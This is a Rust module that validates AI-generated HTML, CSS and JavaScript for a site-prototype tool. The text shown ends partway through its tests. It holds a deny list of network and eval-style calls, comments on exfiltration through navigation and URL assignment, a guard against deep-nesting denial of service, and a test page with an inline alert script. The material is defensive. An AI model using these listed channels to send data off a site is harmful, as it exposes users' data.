//! The validators of the AI stages: does a reply do its job, and if not, what exactly to
//! tell the model.
//!
//! - HTML is parsed with html5ever (the standard's tree builder) and must have the required
//!   landmarks, one `h1` and real text;
//! - CSS is parsed with cssparser (Servo's tokenizer and rule parser) and must parse and
//!   style the page's classes;
//! - JS is parsed with oxc and must parse, make no network call or `eval`, and look up only
//!   ids and classes the page has;
//! - the content stage must keep the page's outline.
//!
//! Invariants: a [`Verdict`] separates what must be fixed (else the stage falls back to its
//! template output) from advice (recorded as warnings); every message says what is wrong
//! *and* what to do, because it goes back to the model as the repair prompt. Nothing here
//! executes or fetches anything; finalize still gates what is published.

use std::collections::BTreeSet;

use html5ever::tendril::TendrilSink;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Handle, NodeData, RcDom};

use super::spec::Spec;

/// What a validator found.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Verdict {
    /// Problems that make the output unusable: re-ask, then fall back.
    pub must: Vec<String>,
    /// Problems worth a re-ask, but not a fallback.
    pub should: Vec<String>,
}

impl Verdict {
    pub fn passed(&self) -> bool {
        self.must.is_empty()
    }

    pub fn clean(&self) -> bool {
        self.must.is_empty() && self.should.is_empty()
    }

    /// The repair prompt's list: every problem, must-fix first, numbered.
    pub fn diagnosis(&self) -> String {
        self.must
            .iter()
            .chain(&self.should)
            .enumerate()
            .map(|(i, p)| format!("{}. {p}", i + 1))
            .collect::<Vec<_>>()
            .join("\n")
    }
}

/// What the CSS and JS stages need to know about the page.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Shape {
    pub ids: BTreeSet<String>,
    pub classes: BTreeSet<String>,
    /// Structural elements in order, as `tag#id.class` (plus the URL of links and images).
    pub outline: Vec<String>,
    h1: usize,
    landmarks: BTreeSet<&'static str>,
    text_chars: usize,
    inline_styles: usize,
    inline_scripts: usize,
    handlers: BTreeSet<String>,
    external: BTreeSet<String>,
    parse_errors: usize,
}

const LANDMARKS: &[&str] = &["header", "nav", "main", "footer"];

/// Elements whose order and attributes make the outline (inline phrasing may change).
const STRUCTURAL: &[&str] = &[
    "header",
    "nav",
    "main",
    "section",
    "article",
    "aside",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "form",
    "fieldset",
    "label",
    "input",
    "select",
    "textarea",
    "button",
    "img",
    "picture",
    "figure",
    "table",
    "tr",
    "td",
    "th",
    "details",
    "summary",
    "a",
    "div",
    "p",
    "address",
    "blockquote",
];

/// Parse `html` and read its shape.
pub fn shape(html: &str) -> Shape {
    let dom = parse_document(RcDom::default(), ParseOpts::default()).one(html);
    let mut s = Shape { parse_errors: dom.errors.borrow().len(), ..Shape::default() };
    let mut stack: Vec<(Handle, bool)> = vec![(dom.document.clone(), false)];
    while let Some((node, in_body)) = stack.pop() {
        let mut in_body = in_body;
        match &node.data {
            NodeData::Element { name, attrs, .. } => {
                let tag = name.local.to_string();
                in_body |= tag == "body";
                let attrs = attrs.borrow();
                let get = |n: &str| {
                    attrs.iter().find(|a| &*a.name.local == n).map(|a| a.value.to_string())
                };
                let id = get("id").unwrap_or_default();
                if !id.is_empty() {
                    s.ids.insert(id.clone());
                }
                let classes: Vec<String> = get("class")
                    .unwrap_or_default()
                    .split_ascii_whitespace()
                    .map(str::to_owned)
                    .collect();
                s.classes.extend(classes.iter().cloned());
                if tag == "h1" {
                    s.h1 += 1;
                }
                if let Some(l) = LANDMARKS.iter().find(|l| **l == tag) {
                    s.landmarks.insert(l);
                }
                for a in attrs.iter() {
                    let n = a.name.local.to_string().to_ascii_lowercase();
                    if n.starts_with("on") {
                        s.handlers.insert(n);
                    } else if n == "style" {
                        s.inline_styles += 1;
                    } else if matches!(n.as_str(), "src" | "href")
                        && tag != "a"
                        && is_external(&a.value)
                    {
                        s.external.insert(a.value.to_string());
                    }
                }
                match tag.as_str() {
                    "style" => s.inline_styles += 1,
                    "script" if get("src").is_none() => s.inline_scripts += 1,
                    _ => {}
                }
                if in_body && (STRUCTURAL.contains(&tag.as_str()) || !id.is_empty()) {
                    let mut entry = tag.clone();
                    if !id.is_empty() {
                        entry.push('#');
                        entry.push_str(&id);
                    }
                    for c in &classes {
                        entry.push('.');
                        entry.push_str(c);
                    }
                    for key in ["href", "src", "name", "type"] {
                        if let Some(v) = get(key) {
                            entry.push_str(&format!(" {key}={v}"));
                        }
                    }
                    s.outline.push(entry);
                }
                if matches!(tag.as_str(), "script" | "style" | "template") {
                    continue;
                }
            }
            NodeData::Text { contents } if in_body => {
                s.text_chars += contents.borrow().trim().chars().count();
            }
            _ => {}
        }
        for child in node.children.borrow().iter().rev() {
            stack.push((child.clone(), in_body));
        }
    }
    s
}

fn is_external(url: &str) -> bool {
    let u = url.trim().to_ascii_lowercase();
    u.starts_with("http:") || u.starts_with("https:") || u.starts_with("//")
}

/// Is this the page the plan asked for?
pub fn html(page: &Shape, spec: &Spec) -> Verdict {
    let mut v = Verdict::default();
    for landmark in ["header", "main", "footer"] {
        if !page.landmarks.contains(landmark) {
            v.must.push(format!(
                "The page has no <{landmark}> element. Use one <header>, one <main> holding the \
                 sections, and one <footer>."
            ));
        }
    }
    if !page.landmarks.contains("nav") {
        v.should.push(
            "The page has no <nav>. Put one in the <header>, linking to each section by its id."
                .into(),
        );
    }
    match page.h1 {
        1 => {}
        0 => v.must.push("The page has no <h1>. Give it exactly one: the site's name.".into()),
        n => v.must.push(format!(
            "The page has {n} <h1> elements. Keep exactly one (the site's name) and make the \
             others <h2>."
        )),
    }
    if page.text_chars < 120 {
        v.must.push(format!(
            "The page has almost no text ({} characters). Write every section of the plan with \
             the customer's content.",
            page.text_chars
        ));
    }
    let missing: Vec<&str> =
        spec.sections.iter().map(|s| s.id.as_str()).filter(|id| !page.ids.contains(*id)).collect();
    if !missing.is_empty() {
        v.should.push(format!(
            "These sections of the plan have no element with that id: {}. Give each <section> \
             the id the plan names.",
            missing.join(", ")
        ));
    }
    if page.inline_styles > 0 {
        v.should.push(format!(
            "The page has {} inline style(s) (style attributes or <style>). Remove them: all \
             styling goes in styles.css, through classes.",
            page.inline_styles
        ));
    }
    if page.inline_scripts > 0 || !page.handlers.is_empty() {
        v.should.push(format!(
            "The page has inline script ({} <script> block(s){}). Remove it: the only script is \
             <script src=\"script.js\" defer></script>.",
            page.inline_scripts,
            if page.handlers.is_empty() {
                String::new()
            } else {
                format!(
                    ", handlers {}",
                    page.handlers.iter().cloned().collect::<Vec<_>>().join(", ")
                )
            }
        ));
    }
    if !page.external.is_empty() {
        v.should.push(format!(
            "The page loads files from other sites ({}). Remove them: no CDNs, web fonts or \
             remote images; use only the files you were given.",
            page.external.iter().take(5).cloned().collect::<Vec<_>>().join(", ")
        ));
    }
    if page.parse_errors > 20 {
        v.should.push(format!(
            "The HTML has {} syntax errors (unclosed or misnested elements). Close every \
             element in order.",
            page.parse_errors
        ));
    }
    v
}

/// Does the content stage's page keep the structure of the one it was given?
pub fn same_outline(before: &Shape, after: &Shape) -> Verdict {
    let mut v = Verdict::default();
    if before.outline != after.outline {
        let first = before
            .outline
            .iter()
            .zip(&after.outline)
            .position(|(a, b)| a != b)
            .unwrap_or(before.outline.len().min(after.outline.len()));
        let show = |o: &[String]| o.get(first).cloned().unwrap_or_else(|| "(nothing)".into());
        v.must.push(format!(
            "The structure changed: element {} was `{}` and is now `{}` ({} structural elements \
             before, {} after). Change only the text; keep every element, id, class and link \
             exactly as it was.",
            first + 1,
            show(&before.outline),
            show(&after.outline),
            before.outline.len(),
            after.outline.len()
        ));
    }
    if after.text_chars * 2 < before.text_chars {
        v.must.push(format!(
            "Half the text is gone ({} characters before, {} after). Keep all of the content.",
            before.text_chars, after.text_chars
        ));
    }
    v
}

// ─── CSS ───

/// Deepest nesting of brackets a validator parses; deeper replies are refused unparsed.
const MAX_NESTING: usize = 96;

/// How deep `(`, `[` and `{` nest in `code`, outside strings and comments: an estimate
/// (regex literals and CSS's newline-ended strings are not recognised, so it can be off
/// either way); `parse_guarded` is what makes deep code safe.
fn nesting(code: &str) -> usize {
    let bytes = code.as_bytes();
    let (mut depth, mut max, mut i) = (0usize, 0usize, 0usize);
    while i < bytes.len() {
        match bytes[i] {
            q @ (b'"' | b'\'' | b'`') => {
                i += 1;
                while i < bytes.len() && bytes[i] != q {
                    i += if bytes[i] == b'\\' { 2 } else { 1 };
                }
            }
            b'/' if bytes.get(i + 1) == Some(&b'*') => {
                i += 2;
                while i + 1 < bytes.len() && !(bytes[i] == b'*' && bytes[i + 1] == b'/') {
                    i += 1;
                }
                i += 1;
            }
            b'(' | b'[' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        i += 1;
    }
    max
}

/// SECURITY: the parsers below recurse once per nesting level, so a hostile reply nested
/// thousands deep could exhaust the builder's stack; it is refused before parsing.
fn too_deep(code: &str, file: &str) -> Option<String> {
    let depth = nesting(code);
    (depth > MAX_NESTING).then(|| {
        format!(
            "{file} nests brackets {depth} levels deep; keep it under {MAX_NESTING} (plain, flat \
             code)."
        )
    })
}

/// Longest stylesheet or script a validator takes: far beyond a prototype's (a stage's reply
/// is a few thousand tokens), and it bounds the stack the parsers may need.
const MAX_CODE_BYTES: usize = 256 << 10;

/// Stack for a parser thread: a base, plus room for every byte of the input to open a level.
/// oxc and cssparser use well under 1 KiB a level (`deep_code_cannot_exhaust_the_stack`
/// parses the worst case); the memory is reserved, and only touched as deep as a parse goes.
const STACK_BASE: usize = 16 << 20;
const STACK_PER_BYTE: usize = 1 << 10;

/// Run a parse of `code` on a thread whose stack fits any nesting `code` can hold.
///
/// SECURITY: denial of service. oxc and cssparser recurse once per nesting level and have no
/// depth limit of their own, and a model's reply (steerable by the customer's text) can nest
/// thousands deep. `nesting` is only a heuristic that refuses the obvious cases early (it
/// cannot know regex literals or where CSS strings end); this is the guarantee: too long is
/// refused, and the stack is sized for the worst case, so a stack overflow, which would abort
/// the whole process, cannot happen. A panic in a parser becomes a failed check.
fn parse_guarded(code: &str, file: &str, parse: impl FnOnce() -> Verdict + Send) -> Verdict {
    if code.len() > MAX_CODE_BYTES {
        return Verdict {
            must: vec![format!(
                "{file} is {} KiB; keep it under {} KiB (plain, short code).",
                code.len() >> 10,
                MAX_CODE_BYTES >> 10
            )],
            ..Verdict::default()
        };
    }
    let stack = STACK_BASE + code.len() * STACK_PER_BYTE;
    let outcome = std::thread::scope(|scope| {
        std::thread::Builder::new()
            .name(format!("check {file}"))
            .stack_size(stack)
            .spawn_scoped(scope, parse)
            .map(|handle| handle.join())
    });
    match outcome {
        Ok(Ok(verdict)) => verdict,
        Ok(Err(_)) => Verdict {
            must: vec![format!("{file} could not be checked (the parser failed); write it again.")],
            ..Verdict::default()
        },
        Err(e) => Verdict {
            must: vec![format!("{file} could not be checked: no thread for the parser ({e}).")],
            ..Verdict::default()
        },
    }
}

/// Does `css` parse, and does it style this page?
pub fn css(css: &str, page: &Shape) -> Verdict {
    parse_guarded(css, "styles.css", || css_unguarded(css, page))
}

fn css_unguarded(css: &str, page: &Shape) -> Verdict {
    use cssparser::{Parser, ParserInput, StyleSheetParser};
    let mut v = Verdict::default();
    if let Some(problem) = too_deep(css, "styles.css") {
        v.must.push(problem);
        return v;
    }
    if let Some(problem) = unbalanced(css) {
        v.must.push(problem);
    }
    let mut input = ParserInput::new(css);
    let mut parser = Parser::new(&mut input);
    let mut sheet = Sheet::default();
    let mut errors = Vec::new();
    for result in StyleSheetParser::new(&mut parser, &mut sheet) {
        if let Err((e, slice)) = result {
            errors.push((e.location.line + 1, slice.trim().chars().take(60).collect::<String>()));
        }
    }
    let mut sheet_errors = std::mem::take(&mut sheet.errors);
    errors.append(&mut sheet_errors);
    if let Some((line, what)) = errors.first() {
        v.must.push(format!(
            "styles.css has {} rule(s) that do not parse; the first is at line {line}: `{what}`. \
             Write plain CSS: `selector {{ property: value; }}`.",
            errors.len()
        ));
    }
    if sheet.rules == 0 {
        v.must.push("styles.css has no rules. Style every part of the page.".into());
    }
    if !sheet.remote.is_empty() {
        v.must.push(format!(
            "styles.css loads from other sites ({}). Remove every @import and remote url(); \
             use system fonts.",
            sheet.remote.iter().take(3).cloned().collect::<Vec<_>>().join(", ")
        ));
    }
    let unused: Vec<&String> =
        page.classes.iter().filter(|c| !sheet.classes.contains(c.as_str())).collect();
    if page.classes.len() >= 3 && unused.len() == page.classes.len() {
        v.must.push(format!(
            "styles.css styles none of the page's classes ({}). Write rules for the classes the \
             page uses.",
            page.classes.iter().take(12).cloned().collect::<Vec<_>>().join(", ")
        ));
    } else if unused.len() * 2 > page.classes.len() {
        v.should.push(format!(
            "styles.css leaves {} of the page's {} classes unstyled: {}.",
            unused.len(),
            page.classes.len(),
            unused.iter().take(12).map(|c| format!(".{c}")).collect::<Vec<_>>().join(", ")
        ));
    }
    if !sheet.min_width_media {
        v.should.push(
            "styles.css has no `@media (min-width: …)` query. Write mobile-first: base rules \
             for small screens, wider layouts inside min-width queries."
                .into(),
        );
    }
    if !sheet.reduced_motion {
        v.should.push(
            "styles.css has no `@media (prefers-reduced-motion: reduce)` rule. Turn animations \
             and smooth scrolling off inside one."
                .into(),
        );
    }
    v
}

/// Braces that never close: a reply cut off by the token limit.
fn unbalanced(css: &str) -> Option<String> {
    let mut depth = 0i64;
    let mut chars = css.chars().peekable();
    let mut quote = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), '\\') => {
                chars.next();
            }
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '/') if chars.peek() == Some(&'*') => {
                chars.next();
                let mut last = ' ';
                for c in chars.by_ref() {
                    if last == '*' && c == '/' {
                        break;
                    }
                    last = c;
                }
            }
            (None, '{') => depth += 1,
            (None, '}') => depth -= 1,
            _ => {}
        }
        if depth < 0 {
            return Some("styles.css closes a `}` that was never opened.".into());
        }
    }
    (depth > 0).then(|| {
        format!(
            "styles.css ends with {depth} unclosed block(s): it was cut off. Finish every rule."
        )
    })
}

#[derive(Default)]
struct Sheet {
    rules: usize,
    classes: BTreeSet<String>,
    remote: BTreeSet<String>,
    min_width_media: bool,
    reduced_motion: bool,
    errors: Vec<(u32, String)>,
}

type CssError<'i> = cssparser::ParseError<'i, ()>;

impl<'i> cssparser::QualifiedRuleParser<'i> for Sheet {
    type Prelude = ();
    type QualifiedRule = ();
    type Error = ();

    fn parse_prelude<'t>(
        &mut self,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        use cssparser::Token;
        let mut any = false;
        let mut after_dot = false;
        let mut after_colon = false;
        loop {
            let token = match input.next_including_whitespace_and_comments() {
                Ok(t) => t.clone(),
                Err(_) => break,
            };
            // A pseudo-class colon must touch its name: `a: hover` is prose, not a selector.
            if after_colon && !matches!(token, Token::Ident(_) | Token::Function(_) | Token::Colon)
            {
                return Err(input.new_custom_error(()));
            }
            after_colon = matches!(token, Token::Colon);
            match &token {
                Token::Ident(name) if after_dot => {
                    self.classes.insert(name.to_string());
                }
                Token::Ident(_)
                | Token::IDHash(_)
                | Token::Hash(_)
                | Token::Colon
                | Token::Comma
                | Token::WhiteSpace(_)
                | Token::Comment(_)
                | Token::Percentage { .. }
                | Token::Number { .. }
                | Token::Delim('.' | '*' | '>' | '+' | '~' | '|' | '&') => {}
                Token::SquareBracketBlock | Token::Function(_) => {
                    // Attribute selectors and :not()/:is()/:where(): collect classes inside.
                    let classes = &mut self.classes;
                    let _ = input.parse_nested_block(|inner| {
                        collect_classes(inner, classes);
                        Ok::<(), CssError<'i>>(())
                    });
                }
                _ => return Err(input.new_custom_error(())),
            }
            any |= !matches!(token, Token::WhiteSpace(_) | Token::Comment(_));
            after_dot = matches!(token, Token::Delim('.'));
        }
        if any { Ok(()) } else { Err(input.new_custom_error(())) }
    }

    fn parse_block<'t>(
        &mut self,
        _: (),
        _: &cssparser::ParserState,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        self.rules += 1;
        self.body(input);
        Ok(())
    }
}

fn collect_classes(input: &mut cssparser::Parser<'_, '_>, classes: &mut BTreeSet<String>) {
    use cssparser::Token;
    let mut after_dot = false;
    while let Ok(token) = input.next() {
        let token = token.clone();
        if let Token::Ident(name) = &token
            && after_dot
        {
            classes.insert(name.to_string());
        }
        if matches!(token, Token::Function(_) | Token::ParenthesisBlock) {
            let _ = input.parse_nested_block(|inner| {
                collect_classes(inner, classes);
                Ok::<(), CssError<'_>>(())
            });
        }
        after_dot = matches!(token, Token::Delim('.'));
    }
}

impl Sheet {
    /// A rule's body: declarations and nested rules; records what does not parse.
    fn body(&mut self, input: &mut cssparser::Parser<'_, '_>) {
        let mut body = Body { sheet: self };
        let mut errors = Vec::new();
        for item in cssparser::RuleBodyParser::new(input, &mut body) {
            if let Err((e, slice)) = item {
                errors.push((e.location.line + 1, slice.trim().chars().take(60).collect()));
            }
        }
        self.errors.extend(errors);
    }

    fn check_value(&mut self, input: &mut cssparser::Parser<'_, '_>) -> bool {
        use cssparser::Token;
        let mut any = false;
        while let Ok(token) = input.next() {
            any = true;
            match token.clone() {
                Token::UnquotedUrl(url) if is_external(&url) => {
                    self.remote.insert(url.to_string());
                }
                Token::Function(name) => {
                    let is_url = name.eq_ignore_ascii_case("url");
                    let remote = &mut self.remote;
                    let _ = input.parse_nested_block(|inner| {
                        while let Ok(t) = inner.next() {
                            if let (true, Token::QuotedString(u)) = (is_url, t)
                                && is_external(u)
                            {
                                remote.insert(u.to_string());
                            }
                        }
                        Ok::<(), CssError<'_>>(())
                    });
                }
                Token::BadUrl(_) | Token::BadString(_) | Token::CloseCurlyBracket => return false,
                _ => {}
            }
        }
        any
    }
}

struct Body<'s> {
    sheet: &'s mut Sheet,
}

impl<'i> cssparser::DeclarationParser<'i> for Body<'_> {
    type Declaration = ();
    type Error = ();

    fn parse_value<'t>(
        &mut self,
        _name: cssparser::CowRcStr<'i>,
        input: &mut cssparser::Parser<'i, 't>,
        _: &cssparser::ParserState,
    ) -> Result<(), CssError<'i>> {
        if self.sheet.check_value(input) { Ok(()) } else { Err(input.new_custom_error(())) }
    }
}

impl<'i> cssparser::QualifiedRuleParser<'i> for Body<'_> {
    type Prelude = ();
    type QualifiedRule = ();
    type Error = ();

    fn parse_prelude<'t>(
        &mut self,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        cssparser::QualifiedRuleParser::parse_prelude(self.sheet, input)
    }

    fn parse_block<'t>(
        &mut self,
        _: (),
        _: &cssparser::ParserState,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        self.sheet.rules += 1;
        self.sheet.body(input);
        Ok(())
    }
}

impl<'i> cssparser::AtRuleParser<'i> for Body<'_> {
    type Prelude = ();
    type AtRule = ();
    type Error = ();

    fn parse_prelude<'t>(
        &mut self,
        name: cssparser::CowRcStr<'i>,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        cssparser::AtRuleParser::parse_prelude(self.sheet, name, input)
    }

    fn parse_block<'t>(
        &mut self,
        _: (),
        _: &cssparser::ParserState,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        self.sheet.body(input);
        Ok(())
    }
}

impl<'i> cssparser::RuleBodyItemParser<'i, (), ()> for Body<'_> {
    fn parse_declarations(&self) -> bool {
        true
    }
    fn parse_qualified(&self) -> bool {
        true
    }
}

impl<'i> cssparser::AtRuleParser<'i> for Sheet {
    type Prelude = ();
    type AtRule = ();
    type Error = ();

    fn parse_prelude<'t>(
        &mut self,
        name: cssparser::CowRcStr<'i>,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        let prelude = {
            let start = input.position();
            while input.next().is_ok() {}
            input.slice_from(start).to_ascii_lowercase()
        };
        match &*name.to_ascii_lowercase() {
            "import" => {
                self.remote.insert(format!("@import {}", prelude.trim()));
            }
            "media" => {
                self.min_width_media |=
                    prelude.contains("min-width") || prelude.contains("width >");
                self.reduced_motion |= prelude.contains("prefers-reduced-motion");
            }
            "supports" | "container" | "layer" | "font-face" | "keyframes"
            | "-webkit-keyframes" | "page" | "property" | "charset" | "scope"
            | "starting-style" | "counter-style" => {}
            _ => return Err(input.new_custom_error(())),
        }
        Ok(())
    }

    fn rule_without_block(&mut self, _: (), _: &cssparser::ParserState) -> Result<(), ()> {
        Ok(())
    }

    fn parse_block<'t>(
        &mut self,
        _: (),
        _: &cssparser::ParserState,
        input: &mut cssparser::Parser<'i, 't>,
    ) -> Result<(), CssError<'i>> {
        self.body(input);
        Ok(())
    }
}

// ─── JS ───

/// Calls that reach the network or run strings as code.
const FORBIDDEN_CALLS: &[&str] =
    &["fetch", "eval", "Function", "importScripts", "setTimeoutString", "require"];
const FORBIDDEN_NEW: &[&str] =
    &["XMLHttpRequest", "WebSocket", "EventSource", "Function", "Worker", "SharedWorker"];

/// Does `js` parse, stay off the network, and touch only what the page has?
pub fn js(js: &str, page: &Shape) -> Verdict {
    parse_guarded(js, "script.js", || js_unguarded(js, page))
}

fn js_unguarded(js: &str, page: &Shape) -> Verdict {
    use oxc_ast_visit::Visit;
    let mut v = Verdict::default();
    if let Some(problem) = too_deep(js, "script.js") {
        v.must.push(problem);
        return v;
    }
    let allocator = oxc_allocator::Allocator::default();
    let parsed = oxc_parser::Parser::new(&allocator, js, oxc_span::SourceType::script()).parse();
    let errors: Vec<_> = parsed.diagnostics.errors().collect();
    if let Some(first) = errors.first() {
        let offset = first.labels.first().map_or(0, |l| l.offset() as usize);
        let line = js.get(..offset.min(js.len())).map_or(1, |s| s.lines().count().max(1));
        v.must.push(format!(
            "script.js does not parse ({} error(s)); the first, at line {line}: {}. Answer with \
             complete, valid JavaScript.",
            errors.len(),
            first.message
        ));
        return v;
    }
    let mut finder = Finder::default();
    finder.visit_program(&parsed.program);
    if !finder.forbidden.is_empty() {
        v.must.push(format!(
            "script.js uses {}. The prototype makes no network requests and runs no code from \
             strings; remove them.",
            finder.forbidden.iter().cloned().collect::<Vec<_>>().join(", ")
        ));
    }
    let missing: Vec<String> = finder
        .lookups
        .iter()
        .flat_map(|selector| selector_names(selector))
        .filter(|name| match name.as_bytes()[0] {
            b'#' => !page.ids.contains(&name[1..]),
            _ => !page.classes.contains(&name[1..]),
        })
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    if !missing.is_empty() {
        v.must.push(format!(
            "script.js looks up {}, which the page does not have. Use only these ids: {}; and \
             these classes: {}.",
            missing.join(", "),
            list(&page.ids, "#"),
            list(&page.classes, ".")
        ));
    }
    if finder.inner_html {
        v.should.push(
            "script.js assigns innerHTML. Build elements with createElement and textContent."
                .into(),
        );
    }
    v
}

fn list(names: &BTreeSet<String>, prefix: &str) -> String {
    if names.is_empty() {
        return "(none)".into();
    }
    names.iter().take(30).map(|n| format!("{prefix}{n}")).collect::<Vec<_>>().join(", ")
}

/// The `#id` and `.class` names a selector string refers to.
fn selector_names(selector: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes = selector.as_bytes();
    let mut i = 0;
    let mut in_brackets = false;
    while i < bytes.len() {
        match bytes[i] {
            b'[' => in_brackets = true,
            b']' => in_brackets = false,
            b'#' | b'.' if !in_brackets => {
                let start = i;
                i += 1;
                while i < bytes.len()
                    && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'-' || bytes[i] == b'_')
                {
                    i += 1;
                }
                if i > start + 1 {
                    out.push(selector[start..i].to_owned());
                }
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    out
}

/// Names of the global object, through which every global can be reached.
macro_rules! globals {
    () => {
        "window" | "self" | "globalThis" | "top" | "parent" | "frames"
    };
}

#[derive(Default)]
struct Finder {
    forbidden: BTreeSet<String>,
    /// Selector strings looked up in the document.
    lookups: Vec<String>,
    inner_html: bool,
}

impl<'a> oxc_ast_visit::Visit<'a> for Finder {
    fn visit_call_expression(&mut self, it: &oxc_ast::ast::CallExpression<'a>) {
        use oxc_ast::ast::Expression;
        let first = it.arguments.first().and_then(|a| a.as_expression()).and_then(|e| match e {
            Expression::StringLiteral(s) => Some(s.value.to_string()),
            Expression::TemplateLiteral(t) if t.expressions.is_empty() => {
                t.quasis.first().map(|q| q.value.raw.to_string())
            }
            _ => None,
        });
        match &it.callee {
            Expression::Identifier(id) if FORBIDDEN_CALLS.contains(&id.name.as_str()) => {
                self.forbidden.insert(format!("{}()", id.name));
            }
            callee => {
                if let Some(member) = callee.get_member_expr()
                    && let Some(prop) = member.static_property_name()
                {
                    let object = match member.object() {
                        Expression::Identifier(id) => id.name.as_str(),
                        _ => "",
                    };
                    match (object, prop) {
                        ("document", "write" | "writeln")
                        | ("navigator", "sendBeacon")
                        | ("location", "assign" | "replace")
                        | (globals!(), "open") => {
                            self.forbidden.insert(format!("{object}.{prop}()"));
                        }
                        // SECURITY: `window.fetch(…)`, `globalThis["eval"](…)`: the same
                        // calls reached through the global object.
                        (globals!(), p) if FORBIDDEN_CALLS.contains(&p) => {
                            self.forbidden.insert(format!("{object}.{prop}()"));
                        }
                        (_, "getElementById") => {
                            self.lookups.extend(first.map(|id| format!("#{id}")));
                        }
                        (_, "getElementsByClassName") => self.lookups.extend(first.map(|c| {
                            c.split_whitespace().map(|c| format!(".{c}")).collect::<String>()
                        })),
                        (_, "querySelector" | "querySelectorAll" | "closest") => {
                            self.lookups.extend(first);
                        }
                        _ => {}
                    }
                }
            }
        }
        oxc_ast_visit::walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &oxc_ast::ast::NewExpression<'a>) {
        let name = match &it.callee {
            oxc_ast::ast::Expression::Identifier(id) => Some(id.name.as_str()),
            callee => callee.get_member_expr().and_then(|m| match m.object() {
                oxc_ast::ast::Expression::Identifier(o)
                    if matches!(o.name.as_str(), globals!()) =>
                {
                    m.static_property_name()
                }
                _ => None,
            }),
        };
        if let Some(name) = name
            && FORBIDDEN_NEW.contains(&name)
        {
            self.forbidden.insert(format!("new {name}()"));
        }
        oxc_ast_visit::walk::walk_new_expression(self, it);
    }

    fn visit_import_expression(&mut self, it: &oxc_ast::ast::ImportExpression<'a>) {
        self.forbidden.insert("import()".into());
        oxc_ast_visit::walk::walk_import_expression(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &oxc_ast::ast::AssignmentExpression<'a>) {
        use oxc_ast::ast::{AssignmentTarget, Expression};
        let member = it.left.as_member_expression();
        let prop = member.and_then(|m| m.static_property_name());
        if matches!(prop, Some("innerHTML" | "outerHTML")) {
            self.inner_html = true;
        }
        // SECURITY: navigating away, or loading a URL into an image or link, sends data off
        // the site as surely as fetch() does.
        let object = member.and_then(|m| match m.object() {
            Expression::Identifier(id) => Some(id.name.as_str()),
            _ => None,
        });
        let navigates = matches!(&it.left, AssignmentTarget::AssignmentTargetIdentifier(id) if id.name == "location")
            || prop == Some("location")
            || object == Some("location");
        let external = match &it.right {
            Expression::StringLiteral(s) => is_external(&s.value),
            Expression::TemplateLiteral(t) => {
                t.quasis.first().is_some_and(|q| is_external(&q.value.raw))
            }
            _ => false,
        };
        if navigates {
            self.forbidden.insert("location = …".into());
        } else if external && matches!(prop, Some("src" | "href" | "action" | "data")) {
            self.forbidden.insert(format!(".{} = an external URL", prop.unwrap_or_default()));
        }
        oxc_ast_visit::walk::walk_assignment_expression(self, it);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stages::spec::SpecSection;

    const PAGE: &str = r##"<!doctype html><html lang="en"><head><title>R</title></head><body>
<header class="site-header"><nav class="nav"><button class="nav-toggle" aria-expanded="false">Menu</button>
<ul id="nav-list" class="nav-list"><li><a href="#menu">Menu</a></li></ul></nav></header>
<main><h1 class="title">Rosie's Bakery</h1>
<section id="menu" class="menu"><h2>Menu</h2><p>Sourdough, rye and seeded loaves, baked before dawn every day but Monday.</p></section>
<section id="visit" class="visit"><h2>Visit</h2><p>12 Mill Lane. Open Tuesday to Sunday, seven until two.</p>
<form id="contact" class="contact-form"><label>Name <input name="name" required></label><button type="submit">Send</button></form></section>
</main><footer class="site-footer"><p>© Rosie's</p></footer><script src="script.js" defer></script></body></html>"##;

    fn spec(ids: &[&str]) -> Spec {
        Spec {
            sections: ids
                .iter()
                .map(|i| SpecSection { id: (*i).into(), title: "x".into(), purpose: String::new() })
                .collect(),
            ..Spec::default()
        }
    }

    #[test]
    fn a_good_page_passes() {
        let page = shape(PAGE);
        let v = html(&page, &spec(&["menu", "visit"]));
        assert!(v.clean(), "{v:#?}");
        assert!(page.classes.contains("nav-toggle") && page.ids.contains("nav-list"));
    }

    #[test]
    fn a_page_without_landmarks_or_h1_must_be_redone() {
        let v = html(
            &shape(
                "<div><h2>Hi</h2><p style=color:red onclick=x()>Short.</p><script>alert(1)</script><img src=https://cdn.example/a.png></div>",
            ),
            &spec(&["menu"]),
        );
        assert_eq!(v.must.len(), 5, "{v:#?}");
        assert!(v.must.iter().any(|m| m.contains("<main>")));
        assert!(v.must.iter().any(|m| m.contains("no <h1>")));
        assert!(v.must.iter().any(|m| m.contains("almost no text")));
        let should = v.should.join("\n");
        for needle in ["menu", "inline style", "onclick", "cdn.example"] {
            assert!(should.contains(needle), "{needle}: {should}");
        }
        assert!(v.diagnosis().starts_with("1. The page has no <header>"), "{}", v.diagnosis());
    }

    #[test]
    fn css_that_parses_and_styles_the_page() {
        let page = shape(PAGE);
